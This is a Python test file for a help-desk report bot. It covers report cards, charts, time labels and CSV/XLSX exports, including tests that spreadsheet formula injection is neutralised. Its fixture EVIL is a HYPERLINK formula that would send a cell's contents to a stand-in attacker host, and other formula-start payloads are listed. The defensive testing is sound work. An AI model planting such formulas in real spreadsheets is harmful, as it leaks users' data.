"""The desk's figures as people read them: cards that fit, charts, files that compute nothing."""

import csv
import zipfile
from dataclasses import replace
from datetime import date, timedelta
from io import BytesIO, StringIO

import pytest
from python_calamine import CalamineWorkbook

from bot.domain.intake.report import Around, Candidate, Measures, Point, Report, Spread, cut
from bot.domain.intake.report_groups import Group, Groups
from bot.domain.intake.report_period import Days, Which, chosen
from bot.sandbox.validation.messages import check_message_blocks
from bot.sandbox.validation.views import check_view
from messages.catalog import LANGUAGES
from messages.intake.report_card import report_card
from messages.intake.report_file import harmless, report_table, report_workbook
from messages.intake.report_form import report_comes, report_form
from messages.intake.report_labels import minutes_label, percent_label
from tests.messages.intake.test_cards import buttons, texts, words

WEEK = Days(first=date(2026, 11, 16), last=date(2026, 11, 22))
SPREAD = Spread(count=12, median=42, ninth=130)
MEASURES = Measures(
    filed=31,
    settled=28,
    mistakes=7,
    duplicates=3,
    lapsed=1,
    reopened=2,
    first_answer=SPREAD,
    resolution=Spread(count=25, median=380, ninth=2280),
    waiting=Spread(count=4, median=95, ninth=600),
)
EVIL = '=HYPERLINK("https://evil.example?"&A1,"look")'
LONG = "<!channel> & " * 40


def made(days: Days = WEEK, *, name: str = "Chengdu", groups: int = 1, candidates: int = 1) -> Report:
    shown = tuple(Group(name=f"{name}{number or ''}", found=MEASURES) for number in range(groups))
    return Report(
        days=days,
        least=3,
        now=MEASURES,
        before=replace(MEASURES, filed=104, first_answer=None),
        around=Around(solved=9, followed=4, deflected=20, became=12, good=14, bad=2),
        around_before=Around(),
        branches=Groups(shown=shown, rest=MEASURES),
        pages=Groups(shown=shown),
        points=tuple(Point(days=each, filed=31, settled=28, mistakes=7) for each in cut(days)),
        candidates=tuple(
            Candidate(page=f"{name}/{number}", mistakes=5 - number % 4) for number in range(candidates)
        ),
    )


def test_the_card_says_every_figure_beside_that_of_the_four_weeks_before() -> None:
    said = texts(report_card(words(), made()))

    for line in (
        "• Filed: *31* (before: 26 a week)",
        "• First answer: *42 min, nine of ten within 2 h 10 min* (before: –)",
        "• Until settled: *6 h 20 min, nine of ten within 38 h* (before: 6 h 20 min, nine",
        "• Of that apart, waiting for the requester: 1 h 35 min, nine of ten within 10 h; 4 of them did",
        "• Operating mistakes: *7*, 25% of what was settled (before: 25%)",
        "• Solved before filing: *9* by a known answer, *4* follow a colleague's request (before: 0 a week)",
        "• Mentions of developers pointed to the desk: *20* (before: 0 a week); 12 became requests",
        "• Satisfaction: *88%*, 14 of 16 who said so (before: –)",
        "• *Chengdu*: filed 31, first answer 42 min, operating mistakes 7 of 28 settled",
        "• *Chengdu/0*: 5 operating mistakes",
    ):
        assert line in said


def test_of_days_that_are_no_week_it_says_how_many_a_week_they_were() -> None:
    fortnight = Days(first=date(2026, 11, 9), last=date(2026, 11, 22))

    assert "• Filed: *31* (15.5 a week, before: 26)" in texts(report_card(words(), made(fortnight)))


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_chart_says_the_same_as_the_words_beneath_it(language: str) -> None:
    card = report_card(words(language), made())

    at, chart = next(
        (number, each) for number, each in enumerate(card.blocks) if each["type"] == "data_visualization"
    )
    lines = card.blocks[at + 1]["text"]["text"].splitlines()[1:]
    series = chart["chart"]["series"]
    for number, (label, line) in enumerate(
        zip(chart["chart"]["axis_config"]["categories"], lines, strict=True)
    ):
        assert label in line
        assert all(str(each["data"][number]["value"]) in line for each in series)


def test_without_the_chart_nothing_else_is_lost() -> None:
    with_chart, without = (report_card(words(), made(), has_chart=each) for each in (True, False))

    assert [each for each in with_chart.blocks if each["type"] != "data_visualization"] == without.blocks
    assert len(with_chart.blocks) == len(without.blocks) + 1


def test_no_figure_stands_in_the_notification() -> None:
    assert report_card(words(), made()).text == "The website desk in figures: Mon 16 Nov to Sun 22 Nov"


def test_where_nothing_happened_it_says_so_and_offers_other_days() -> None:
    card = report_card(words(), replace(made(), now=Measures(), around=Around()))

    assert "Nothing happened at the website desk in these days" in texts(card)
    assert buttons(card) == ["Other days…"]


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("length", [1, 7, 31, 366])
def test_the_longest_card_and_form_fit(language: str, length: int) -> None:
    days = Days(first=WEEK.first, last=WEEK.first + timedelta(days=length - 1))
    report = made(days, name=LONG, groups=40, candidates=40)

    for has_chart in (True, False):
        check_message_blocks(report_card(words(language), report, has_chart=has_chart).blocks)
    offered = {each: chosen(each, today=WEEK.last) for each in Which if each is not Which.OTHER}
    check_view(report_form(words(language), offered, days=days), surface="modal")
    check_view(report_comes(words(language), days), surface="modal")


@pytest.mark.parametrize(
    ("minutes", "label"),
    [
        (0, "0 min"),
        (59, "59 min"),
        (60, "1 h"),
        (130, "2 h 10 min"),
        (600, "10 h"),
        (629, "10 h"),
        (630, "11 h"),
    ],
)
def test_minutes_as_people_say_them(minutes: int, label: str) -> None:
    assert minutes_label(words(), minutes) == label


def test_a_share_of_nothing_is_a_dash() -> None:
    assert (percent_label(None), percent_label(0), percent_label(0.125)) == ("–", "0%", "12%")


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_workbook_has_charts_and_no_formula(language: str) -> None:
    content = report_workbook(words(language), made(name=EVIL, groups=3))

    parts = zipfile.ZipFile(BytesIO(content))
    assert len([each for each in parts.namelist() if each.startswith("xl/charts/chart")]) == 3
    sheets = [parts.read(each).decode() for each in parts.namelist() if "worksheets/sheet" in each]
    assert len(sheets) == 5
    assert not [each for each in sheets if "<f>" in each or "<hyperlink" in each]
    rows = CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(2).to_python()
    assert rows[1][:3] == [EVIL, 31.0, 12.0]
    assert rows[1][12] == 0.25


def test_the_table_has_a_row_for_each_and_no_cell_that_a_program_computes() -> None:
    content = report_table(words(), made(name=EVIL, groups=2))

    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"))))
    assert content.startswith(b"\xef\xbb\xbf")
    assert [row[0] for row in rows[1:6]] == ["Figures", "Figures", "By branch", "By branch", "By branch"]
    assert ["By branch", f"'{EVIL}", "31", "12", "42", "130", "28"] == rows[3][:7]
    assert "25.0%" in rows[1]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("evil", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_what_could_begin_a_formula_is_text(evil: str) -> None:
    assert harmless(evil) == f"'{evil}"
    assert harmless("shop.example/cart") == "shop.example/cart"
